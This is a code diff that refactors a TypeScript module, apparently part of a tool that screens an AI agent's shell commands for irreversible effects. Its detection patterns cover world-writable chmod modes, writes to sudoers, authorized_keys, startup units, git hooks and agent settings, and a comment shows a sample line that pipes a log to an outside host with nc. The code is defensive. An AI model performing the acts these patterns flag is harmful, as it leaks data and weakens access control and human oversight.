@@ -1,7 +1,6 @@
 import { CAPABILITIES } from '@plimsoll/contracts'
-import { type Effects, createEffects, does, raise } from '../../effects.js'
-import { actsOn, actsOnUnnamed, namesOfFed, namesOfPath, wordsIn } from '../../objects.js'
-import { PATH_KINDS, opensDoor, pathKindOf } from '../../paths.js'
+import { type Effects, createEffects } from '../../effects.js'
+import { actsOn, namesOfFed, wordsIn } from '../../objects.js'
 import { raiseWords } from '../../code.js'
 import { readOtherQuery } from '../../sql/other-queries.js'
 import { readPossibleSql } from '../../sql/read-sql.js'
@@ -9,10 +8,9 @@ import { elsewhere as runsThere } from '../../world/known-world.js'
 import { type Call, type ShellContext, hasOption, isOpen, operandsOf, placeOfHost, quoted } from '../call.js'
 import { ownThingOf, thingNames } from '../own-things.js'
 import { noteTableActs } from './act-table.js'
+import { noteModes } from './doors.js'
+import { raiseIrreversible } from './irreversible.js'
 import { onlyLooks } from './looks.js'
-import { COMMAND_LABELS } from './commands.js'
-
-const { DESTROY } = COMMAND_LABELS
 
 const GRANT_COMMANDS = new Set(
   'useradd adduser usermod groupadd addgroup groupmod gpasswd visudo chsh vipw'.split(' '),
@@ -25,11 +23,6 @@ const TAKES_KEYS = /^(?:flushall|flushdb|del|unlink|shutdown|debug)$/i
 /** MongoDB shell methods that delete documents, collections or databases, or stop the server. */
 const TAKES_DOCUMENTS =
   /\.\s*(?:(?:drop\w*|delete\w*|remove\w*|shutdownServer)\s*\(|updateMany\s*\(\s*\{\s*\})/
-/** File modes that let everyone write: the last digit, or `o+w`, `a+rw`. */
-const OPEN_MODE = /^(?:[0-7]{2,3}[2367]|[ugoa]*[oa][ugoa]*[+=][rxst]*w[rwxst]*|\+[rxst]*w[rwxst]*)$/
-/** File modes that let everyone read. */
-const READ_MODE = /^(?:[0-7]{2,3}[4-7]|[ugoa]*[oa][ugoa]*[+=][wxst]*r[rwxst]*)$/
-
 /**
  * Records irreversible acts that the command's kind does not show: access given, a secret changed, a firewall opened, a database emptied in
  * its own language. O(arguments).
@@ -101,20 +94,7 @@ export function noteShellActs(call: Call, context: ShellContext): void {
   if (QUERIES.has(name)) for (const text of args) if (/\s/.test(text)) readQuery(text, effects)
   if (RUNS_CODE.has(name.slice(name.lastIndexOf('/') + 1)))
     for (const text of args) if (/[\s(]/.test(text)) raiseWords(text, effects)
-  if (name === 'chmod' && opensTree(call, operands))
-    raiseIrreversible('grant', 'a command that lets everybody write', effects)
-  if (name === 'chmod' && STOPS.test(args[0] ?? '') && args.slice(1).some((path) => HOOKS.test(path))) {
-    raiseIrreversible('grant', 'a command by which hooks no longer run', effects)
-    actsOn(effects, 'control', {
-      kind: 'setting',
-      reach: 'control',
-      byName: true,
-      names: ['hook', 'hooks'],
-      thing: 'hooks of git',
-    })
-  }
-  if (name === 'chmod' && operands.slice(1).some((path) => opensAccess(operands[0] ?? '', path)))
-    raiseIrreversible('grant', 'a command that lays open what lets others in', effects)
+  if (name === 'chmod') noteModes(call, operands, effects)
 }
 
 /** Records that what a command is fed goes to a host that is not of the organisation: `cat a.log | nc paste.example.net 9999`. */
@@ -279,97 +259,4 @@ function commandOfAnsible(args: readonly string[]): string {
 /** Options of `exec` that take the next word. */
 const OF_EXEC = /^(?:-[uewnc]|--(?:user|env|workdir|index|namespace|container|detach-keys|env-file))$/
 
-/** Files by which a system starts programs. */
-const UNIT = /[\\/]systemd[\\/](?:system|user)[\\/]|[\\/]Launch(?:Agents|Daemons)[\\/]/
-
-/** Records writes to files that control access: `authorized_keys`, `sudoers`, `/etc/passwd`, a crontab, an agent's settings. */
-export function noteDoor(path: string, effects: Effects): void {
-  if (/\/(?:sources\.list\.d|yum\.repos\.d)\//.test(path)) {
-    actsOn(effects, 'persist', { kind: 'path', names: namesOfPath(path), thing: path, byName: true })
-  }
-  if (pathKindOf(path) === PATH_KINDS.guard) noteSettings(path, effects)
-  if (/[\\/]hooks[\\/][\w-]{1,64}$/.test(path) && /\.git[\\/]/.test(path)) {
-    actsOn(effects, 'persist', {
-      kind: 'path',
-      byName: true,
-      names: ['hook', path.split(/[\\/]/).at(-1) ?? ''],
-      thing: path,
-    })
-  }
-  if (UNIT.test(path) && opensDoor(path))
-    actsOn(effects, 'persist', {
-      kind: 'path',
-      byName: true,
-      names: [
-        'systemd',
-        'unit',
-        'timer',
-        'launchd',
-        ...wordsIn((path.split(/[\\/]/).at(-1) ?? '').replace(/\.\w+$/, '')),
-      ],
-      thing: path,
-    })
-  // A hook that a project keeps is judged as a pipeline.
-  if (/\.husky[\\/]/.test(path)) return
-  if (opensDoor(path) || pathKindOf(path) === PATH_KINDS.guard)
-    raiseIrreversible('grant', 'output that goes to what lets others in', effects)
-}
-
-/**
- * Records a change of an agent's settings or hooks: only a task that names a hook, or the agent and its settings, asks for it, none for
- * Plimsoll's own.
- */
-function noteSettings(path: string, effects: Effects): void {
-  const parts = path.split(/[\\/]/)
-  const name = parts.at(-1) ?? ''
-  const at = parts.findLastIndex((part) => AGENT_FOLDER.test(part))
-  const agent = parts[at]?.replace(/^\./, '') ?? ''
-  if (/plimsoll/i.test(path) || name.startsWith('.mcp') || agent === '')
-    return actsOnUnnamed(effects, 'control', 'setting', 'control')
-  const setting = { kind: 'setting', reach: 'control', thing: path, byName: true } as const
-  const place = parts.slice(at).join('/')
-  if (parts[at + 1] === 'hooks')
-    return actsOn(effects, 'control', { ...setting, names: [name, 'hook', place] })
-  actsOn(effects, 'control', { ...setting, names: [agent, place, ...ASKING] })
-  actsOn(effects, 'control', { ...setting, names: ['settings', 'permissions', 'hooks', place] })
-}
-const AGENT_FOLDER = /^\.?(?:claude|codex|copilot|cursor|gemini|opencode|qwen|windsurf)$/
-/** Words by which tasks name an agent's questions. */
-const ASKING = ['asking', 'ask', 'prompting', 'prompts', 'permissions', 'approve', 'approval', 'allowlist']
-
-/** A command that cannot be read before it runs may do anything, including deletion. */
-export function opaque(effects: Effects, reason: string): void {
-  raiseIrreversible('delete', reason, effects)
-}
-
-/** Records an act that cannot be taken back. */
-export function raiseIrreversible(act: Parameters<typeof does>[1], reason: string, effects: Effects): void {
-  raise(effects, DESTROY, reason)
-  does(effects, act)
-}
-
 const takesDocuments = (text: string): boolean => text.length <= 4096 && TAKES_DOCUMENTS.test(text)
-
-/** `chmod -R 777` of folders of a system. */
-const opensTree = (call: Call, operands: readonly string[]): boolean =>
-  hasOption(call, 'R', '--recursive') &&
-  OPEN_MODE.test(operands[0] ?? '') &&
-  operands
-    .slice(1)
-    .some(
-      (path) =>
-        pathKindOf(path) === PATH_KINDS.system ||
-        /^~?\/?$|^~$|^\/(?:srv|var|mnt|opt|data|media|export)\//.test(path),
-    )
-
-/** Modes by which a file can no longer be run, and where hooks lie. */
-const STOPS = /^(?:[ugoa]*-[rw]*x|0?[0246]{3})$/
-const HOOKS = /(?:^|\/)(?:\.git\/hooks|\.?githooks|\.husky)\//
-
-function opensAccess(mode: string, path: string): boolean {
-  const isDoor = opensDoor(path)
-  return (
-    (isDoor && OPEN_MODE.test(mode)) ||
-    (pathKindOf(path) === PATH_KINDS.credentials && (OPEN_MODE.test(mode) || READ_MODE.test(mode)))
-  )
-}
